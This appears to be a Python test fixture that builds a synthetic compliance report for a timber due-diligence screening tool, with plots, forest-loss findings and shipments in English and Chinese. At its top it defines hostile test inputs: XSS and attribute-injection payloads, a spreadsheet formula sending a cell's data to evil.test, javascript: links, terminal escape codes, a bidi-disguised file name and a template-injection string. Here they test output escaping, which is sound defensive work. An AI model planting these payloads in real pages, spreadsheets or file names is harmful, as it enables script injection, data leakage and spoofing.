"""A made-up run, as one document: all actions, all outcomes, intervals, unknowns, hostile strings."""

from __future__ import annotations

from typing import Any

import numpy as np

from ddcheck.evidence.picture import Picture

XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
ATTRIBUTE = "x' onmouseover='alert(3)' style='position:fixed"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'
ANSI = "\x1b[31mred\x1b[0m \x1b]0;title\x07name\x9b2J"
BIDI = "invoice\u202efdp.exe"
TEMPLATE = "{{ 7*7 }}{% raw %}"


def tiny_picture() -> Picture:
    """3 rows x 4 columns: forest on the left half, one loss, one unseen pixel in the corner."""
    seen = np.ones((3, 4), bool)
    seen[2, 3] = False
    canopy = np.array([[80, 80, 0, 0], [80, 80, 0, 0], [80, 80, 0, 0]], np.uint8)
    loss = np.zeros((3, 4), np.uint16)
    loss[1, 1] = 2022
    ring = ((10.0, 1.0), (10.004, 1.0), (10.004, 0.997), (10.0, 0.997), (10.0, 1.0))
    return Picture(10.0, 1.0, 0.001, 0.001, seen, canopy, loss, (ring,), ())


def landscape(size: int = 200, seed: int = 7) -> Picture:
    """A wooded hillside with clearings over several years, a river of unseen ground, a park."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:size, 0:size] / size
    waves = np.sin(7 * x + 3 * y) + np.cos(9 * y - 4 * x) + 0.5 * np.sin(23 * x * y)
    canopy = np.clip(55 + 28 * waves + rng.normal(0, 5, (size, size)), 0, 100).astype(np.uint8)
    loss = np.zeros((size, size), np.uint16)
    for year in (2004, 2012, 2018, 2020, 2021, 2022, 2023, 2024):
        cx, cy, r = rng.uniform(0.1, 0.9), rng.uniform(0.1, 0.9), rng.uniform(0.04, 0.1)
        near = (x - cx) ** 2 + (y - cy) ** 2 < (r * (1 + 0.4 * rng.normal(0, 0.5, x.shape))) ** 2
        loss[near & (canopy > 10)] = year
    seen = np.abs(y - 0.85 - 0.05 * np.sin(9 * x)) > 0.02
    step = 0.00025
    west, north = -71.7, 18.7
    extent = size * step
    angles = np.linspace(0, 2 * np.pi, 33)
    radius = 0.33 + 0.06 * np.sin(3 * angles)
    ring = tuple(
        (west + extent * (0.5 + r * np.cos(a)), north - extent * (0.5 + r * np.sin(a)))
        for a, r in zip(angles, radius, strict=True)
    )
    park = ((west - 1, north + 1), (west + 0.6 * extent, north + 1),
            (west + 0.35 * extent, north - 1), (west - 1, north - 1), (west - 1, north + 1))  # fmt: skip
    return Picture(
        west, north, step, step, seen, canopy, loss, (ring,), (("protected-areas", (park,)),)
    )


def span(floor: str, ceiling: str) -> dict[str, str]:
    return {"floor": floor, "ceiling": ceiling}


def ha(lo: float, nominal: float, hi: float) -> dict[str, Any]:
    return {"lo": lo, "nominal": nominal, "hi": hi, "unit": "ha"}


def _say(lang: str, en: str, zh: str) -> str:
    return zh if lang == "zh" else en


def finding(lang: str, **changes: Any) -> dict[str, Any]:
    base = {
        "rule": "component-scientific-name", "ref": "LA-06", "pack": "us-lacey-act",
        "scenario": False,
        "title": _say(lang, "Genus and species of every component", "每种成分的属名与种名"),
        "subject": {"kind": "component", "id": "SHP-001/1/1", "line": "1", "plot": None},
        "outcome": "not_met", "nature": "requirement", "severity": "blocker",
        "confidence": "verified", "risk": span("high", "high"),
        "provision": {"locator": "16 U.S.C. 3372(f)(1)(A)", "href": "https://example.org/usc/16/3372"},
        "message": _say(lang, "The name “oak” is a trade name, not a genus and a species.",
                        "“橡木”是商品名，不是属名和种名。"),
        "reason": None,
        "remedy": _say(lang, "Ask the supplier for the scientific name of the tree.",
                       "请向供应商索取树种的学名。"),
        "not_tested": [_say(lang, "whether the wood is of the named species", "木材是否确属所列树种")],
        "facts": {"component.name_kind": "trade_name", "component.scientific_name": "oak"},
        "parameters": {},
    }  # fmt: skip
    return base | changes


def loss_finding(lang: str, plot: str, **changes: Any) -> dict[str, Any]:
    base = finding(
        lang, rule="no-loss-after-cutoff", ref="FA-03", pack="screening-forest-loss",
        title=_say(lang, "No mapped loss of forest after the cut-off date", "截止日之后无森林制图损失"),
        subject={"kind": "plot", "id": plot, "line": None, "plot": plot},
        nature="requirement", severity="major", confidence="memory-high",
        risk=span("medium", "medium"),
        provision={"locator": "Screening rule 3", "href": "https://example.org/rule"},
        message=_say(lang, "12.31 ha of forest were lost after 2020-12-31 by the map.",
                     "据地图，2020-12-31 之后损失森林 12.31 公顷。"),
        reason=_say(lang, "0.8 ha are dated 2021 ± 1 year", "0.8 公顷的年份为 2021 ± 1 年"),
        remedy=_say(lang, "Look at dated imagery of the plot and record what replaced the trees.",
                    "查看该地块有日期的影像，并记录取代树木的是什么。"),
        not_tested=[_say(lang, "whether the land became farmland", "土地是否变为农用地"),
                    _say(lang, "tree height", "树高")],
        facts_are={"loss": "plot.forest_loss"},
        facts={"loss": ha(11.5, 12.31, 14.0204), "plot.area": ha(98.25, 98.25, 98.25),
               "plot.observed_share": {"lo": 0.9996, "nominal": 0.9996, "hi": 0.9996, "unit": "share"}},
        parameters={"forest.cutoff": "2020-12-31", "forest.canopy_above": 10, "forest.tolerance": 1},
    )  # fmt: skip
    return base | changes


def _hold(lang: str) -> dict[str, Any]:
    found = [
        finding(lang),
        *(loss_finding(lang, f"CI-{n:04d}") for n in range(42, 56)),
        loss_finding(
            lang, "CI-0060", outcome="undetermined", risk=span("none", "medium"),
            message=_say(lang, "Plot CI-0060 cannot be judged: 19 % of it was not seen.",
                         "地块 CI-0060 无法判定：有 19% 未观测到。"),
            reason=_say(lang, "19 % of the plot could not be seen: tile missing",
                        "地块的 19% 无法观测：图幅缺失"),
            facts={"plot.forest_loss": {"unknown": _say(lang, "tile 10N_010W is missing", "缺少图幅 10N_010W")},
                   "plot.observed_share": {"lo": 0.81, "nominal": 0.81, "hi": 0.81, "unit": "share"}}),
        finding(lang, rule="paper-covers-origin", ref="CN-65-2", pack="cn-forest-law-65",
                title=_say(lang, "A harvest permit covers the origin", "采伐许可证覆盖来源地"),
                subject={"kind": "origin", "id": "SHP-001/1/CI-0042", "line": "1", "plot": "CI-0042"},
                outcome="undetermined", severity="minor", confidence="memory-low",
                risk=span("none", "low"), message=_say(lang, "No paper was given.", "未提供任何单证。"),
                reason=_say(lang, "no paper of these types covers it: harvest permit", "没有以下类型的文件覆盖该项：采伐许可证"),
                provision={"locator": _say(lang, "Forest Law, article 65", "《森林法》第六十五条"), "href": None},
                facts={"origin.document_covers": {"unknown": _say(lang, "no paper", "没有单证")}}),
        loss_finding(lang, "CI-0042", rule="scenario-conversion", ref="FO-01", pack="us-forest-act",
                     scenario=True, nature="indicator", severity="blocker", risk=span("medium", "high"),
                     title=_say(lang, "Conversion after enactment", "法律生效后的转用"),
                     parameters={"scenario.enactment_date": "2023-06-30",
                                 "scenario.taxa": {"rows": 1}}),
    ]  # fmt: skip
    return shipment(
        lang, "SHP-001", "hold", span("high", "high"), found,
        supplier="Coopérative Agricole de Soubré", importer="Blue Harbor Imports LLC",
        ask=[
            {"who": "supplier", "what": _say(lang, "the scientific name of the tree", "树种的学名"),
             "rules": ["component-scientific-name"], "subjects": ["SHP-001/1/1"]},
            {"who": "field", "what": _say(lang, "dated imagery of the ground after 2020-12-31", "2020-12-31 之后的有日期影像"),
             "rules": ["no-loss-after-cutoff"], "subjects": [f"CI-{n:04d}" for n in range(42, 56)]},
            {"who": "data", "what": _say(lang, "tile 10N_010W of hansen-gfc", "hansen-gfc 的图幅 10N_010W"),
             "rules": ["no-loss-after-cutoff"], "subjects": ["CI-0060"]},
        ],
    )  # fmt: skip


def shipment(lang: str, key: str, action: str, risk: dict[str, str] | None,
             findings: list[dict[str, Any]], **changes: Any) -> dict[str, Any]:  # fmt: skip
    outcomes = {"met": 0, "not_met": 0, "undetermined": 0, "not_applicable": 0}
    packs: dict[str, dict[str, Any]] = {}
    for one in findings:
        row = packs.setdefault(one["pack"], {
            "pack": one["pack"], "scenario": one["scenario"], "ran": True, "risk": one["risk"],
            "outcomes": dict(outcomes)})  # fmt: skip
        row["outcomes"][one["outcome"]] += 1
    base = {
        "shipment_id": key, "importer": "Blue Harbor Imports LLC", "supplier": None,
        "import_country": "US", "arrival_date": "2026-10-02", "action": action, "risk": risk,
        "by_pack": [*packs.values(),
                    {"pack": "eu-2023-1115", "scenario": True, "ran": False, "risk": None,
                     "outcomes": dict(outcomes)}],
        "lines": [{"line_no": "1", "hs_code": "4407.99", "commodity": "wood",
                   "description": _say(lang, "Sawn boards of oak", "橡木锯材"), "risk": risk}],
        "checked": [
            {"pack": "us-lacey-act", "rule": "entry-type", "ref": "LA-01",
             "title": _say(lang, "Entry type asks for a declaration", "报关类型需要申报"),
             "not_met": 0, "undetermined": 0, "met": 1, "not_applicable": 0},
            {"pack": "us-lacey-act", "rule": "de-minimis", "ref": "LA-09",
             "title": _say(lang, "De minimis is used rightly", "微量豁免使用得当"),
             "not_met": 0, "undetermined": 0, "met": 0, "not_applicable": 12}],
        "not_checked": [{"what": _say(lang, "Theft and taxes", "盗伐与税费"),
                         "why": _say(lang, "no pack encodes them", "没有规则包编入")}],
        "ask": [],
        "findings": findings,
    }  # fmt: skip
    return base | changes


def _shipments(lang: str) -> list[dict[str, Any]]:
    species = finding(
        lang, outcome="undetermined", risk=span("none", "high"),
        message=_say(lang, "Nothing is declared about the plants.", "未申报任何植物信息。"),
        reason=_say(lang, "no plant component of the line is declared", "该商品行未申报任何植物成分"),
        facts={"component.name_kind": {"unknown": _say(lang, "not declared", "未申报")}})  # fmt: skip
    hostile = finding(
        lang, outcome="undetermined", risk=span("low", "medium"), severity="major",
        nature="indicator", title=f"Title {XSS}", message=f"Message {XSS} {TEMPLATE} {ATTRIBUTE}",
        reason=ANSI, remedy=BIDI, not_tested=[XSS],
        subject={"kind": "line", "id": FORMULA, "line": FORMULA, "plot": XSS},
        provision={"locator": XSS, "href": "javascript:alert(4)"},
        facts={XSS: XSS, "b": ha(0.00001, 0.00002, 0.3)}, parameters={XSS: ATTRIBUTE})  # fmt: skip
    return [
        _hold(lang),
        shipment(lang, "SHP-002", "investigate", span("none", "high"), [species],
                 supplier="云南绿源木业有限公司", importer="上海远洋进出口有限公司", import_country="CN"),
        shipment(lang, XSS, "investigate", span("low", "medium"), [hostile], supplier=ANSI,
                 importer=BIDI, arrival_date=None, import_country=ATTRIBUTE,
                 lines=[{"line_no": FORMULA, "hs_code": "-1+1", "commodity": XSS, "description": ATTRIBUTE,
                         "risk": span("low", "medium")}],
                 not_checked=[{"what": XSS, "why": XSS}],
                 ask=[{"who": "paper", "what": XSS, "rules": [XSS], "subjects": [XSS, FORMULA]}],
                 papers_aside=[{"document": XSS, "why": f"{XSS} {ANSI}", "rules": [XSS]}]),
        shipment(lang, "SHP-004", "not_screened", None, [], lines=[], checked=[], supplier="Unread & Sons"),
        shipment(lang, "SHP-005", "proceed", span("none", "low"),
                 [finding(lang, rule="price", title=_say(lang, "The price is plausible", "价格合理"),
                          nature="indicator", severity="minor", risk=span("none", "low"),
                          message=_say(lang, "The price is 0.4 of the reference price.", "价格为参考价的 0.4。"),
                          facts={"line.unit_price_ratio": {"lo": 0.4, "nominal": 0.4, "hi": 0.4, "unit": "share"}})],
                 supplier="Maderas del Sur S.A.",
                 papers_aside=[{"document": "HP-2", "rules": ["LA-16"],
                                "why": _say(lang, "HP-2 expired on 2024-04-30, before 2024-05-01", "HP-2 已于 2024-04-30 到期，早于 2024-05-01")}]),
    ]  # fmt: skip


def _plots(lang: str) -> list[dict[str, Any]]:
    def plot(key: str, **changes: Any) -> dict[str, Any]:
        base = {
            "plot_id": key, "country": "CI", "producer": "Kouassi Yao", "geometry_type": "Polygon",
            "lon": -71.675, "lat": 18.675, "area_ha": 98.25, "declared_area_ha": 100.0,
            "seen_ha": 98.2107, "unseen_ha": 0.0393,
            "unseen_causes": [_say(lang, "masked", "被掩膜")],
            "forest_at_cutoff_ha": {"lo": 60.0, "nominal": 61.5, "hi": 63.25},
            "loss_after_cutoff_ha": {"lo": 11.5, "nominal": 12.31, "hi": 14.0204},
            "loss_by_year": {"2021": {"lo": 0.0, "nominal": 0.8, "hi": 0.8},
                             "2022": {"lo": 11.5, "nominal": 11.51, "hi": 11.51}},
            "overlaps": {"protected-areas": {"lo": 3.0, "nominal": 3.0, "hi": 3.0}},
            "widths": [{"cause": _say(lang, "dating of the loss", "损失定年"), "ha": 0.8}],
            "risk": span("medium", "medium"), "shipments": ["SHP-001"],
        }  # fmt: skip
        return base | changes

    return [
        plot("CI-0042"),
        plot("CI-0060", country=None, producer=None, declared_area_ha=None, seen_ha=79.58,
             unseen_ha=18.67, unseen_causes=[_say(lang, "tile missing", "图幅缺失")],
             forest_at_cutoff_ha=None, loss_after_cutoff_ha=None, loss_by_year={},
             overlaps={"protected-areas": {"unknown": _say(lang, "no layer", "没有图层")}},
             widths=[], risk=span("none", "medium")),
        plot(XSS, producer=BIDI, country=XSS, risk=span("none", "low"), shipments=[XSS, FORMULA]),
        plot("CI-0099", area_ha=0.53187, declared_area_ha=0.5, seen_ha=0.53187, unseen_ha=0.0,
             unseen_causes=[], loss_after_cutoff_ha={"lo": 0.0, "nominal": 0.0, "hi": 0.0},
             loss_by_year={}, overlaps={}, widths=[], risk=span("none", "none"), shipments=["SHP-005"]),
    ]  # fmt: skip


def document(lang: str = "en") -> dict[str, Any]:
    """The whole run in one language."""
    shipments = _shipments(lang)
    counts = {"read": 5, "screened": 4, "rejected": 1}
    pack = {
        "status": "in_force", "jurisdiction": "US", "scenario": False, "ran": True, "why_not": None,
        "chosen": [], "digest": "ab" * 32,
        "confidence_note": _say(lang, "The text of 6 of 9 provisions was checked.", "9 项条款中有 6 项已核对原文。"),
        "not_encoded": [{"provision": "LA-02", "because": _say(lang, "theft is not visible in a declaration", "申报中看不出盗伐")}],
        "instrument": {"short_name": "Lacey Act", "title": "Lacey Act Amendments of 1981", "href": "https://example.org/lacey"},
    }  # fmt: skip
    return {
        "schema": "ddcheck/report/1", "lang": lang, "as_of": "2026-11-21",
        "program": {"name": "ddcheck", "version": "0.1.0"},
        "loss_question": {"after": "2020-12-31", "canopy_above_percent": 10, "tolerance_years": 1},
        "packs": [
            pack | {"id": "us-lacey-act", "version": "0.1.0",
                    "title": _say(lang, "US Lacey Act, plant provisions", "美国《雷斯法案》植物条款")},
            pack | {"id": "us-forest-act", "version": "0.1.0", "status": "proposed", "scenario": True,
                    "title": _say(lang, "US FOREST Act (proposed)", "美国《森林法案》（草案）"),
                    "chosen": [{"parameter": "scenario.enactment_date", "value": "2023-06-30"}]},
            pack | {"id": "eu-2023-1115", "version": "0.1.0", "status": "framework_only", "scenario": True,
                    "ran": False, "why_not": _say(lang, "scenario.application_date was not chosen", "未设定 scenario.application_date"),
                    "title": XSS, "instrument": {"short_name": "EUDR", "title": XSS, "href": "javascript:alert(5)"}},
        ],
        "layers": [{
            "id": "hansen-gfc-lossyear", "title": "Global Forest Change, loss year", "product": "hansen-gfc",
            "asserts": "loss_year", "version": "v1.13", "period": {"start": "2001-01-01", "end": "2025-12-31"},
            "licence": "CC BY 4.0", "attribution": "Hansen, M. C. et al. (2013), Science 342, 850–853",
            "sha256": "0f" * 32,
            "tiles": [{"name": "20N_080W", "sha256": "1e" * 32, "state": "used"},
                      {"name": "10N_010W", "sha256": None, "state": "missing"},
                      {"name": "00N_010W", "sha256": "3c" * 32, "state": "refused"}]}],
        "counts": {
            "shipments": {"read": 5, "screened": 5, "rejected": 0},
            "lines": counts, "components": {"read": 12, "screened": 12, "rejected": 0},
            "origins": {"read": 17, "screened": 17, "rejected": 0},
            "documents": {"read": 2, "screened": 2, "rejected": 0}, "plots": counts},
        "diagnostics": [
            {"code": "DD204", "slug": "boundary-crosses-itself", "severity": "error", "file": "plots.geojson",
             "place": "plots.geojson:118 /features/41", "line": 118, "row": None, "field": None, "pointer": "/features/41",
             "message": _say(lang, "the boundary is not valid: self-intersection", "边界无效：自相交"),
             "help": _say(lang, "Draw the boundary again, or ask the surveyor for it.", "请重新绘制边界，或向测绘方索取。")},
            {"code": "DD102", "slug": "unknown-field", "severity": "warning", "file": "lines.csv", "place": "lines.csv:1",
             "line": 1, "row": None, "field": XSS, "pointer": None, "message": f"{XSS} {ANSI}", "help": BIDI}],
        "diagnostics_dropped": 3,
        "summary": {
            "actions": {"proceed": 1, "investigate": 2, "hold": 1, "not_screened": 1},
            "findings": {"not_met": 17, "undetermined": 4, "met": 2, "not_applicable": 1},
            "exit_code": 1},
        "shipments": shipments,
        "plots": _plots(lang),
    }  # fmt: skip


def pictures() -> dict[str, Picture]:
    return {"CI-0042": landscape(), XSS: tiny_picture()}
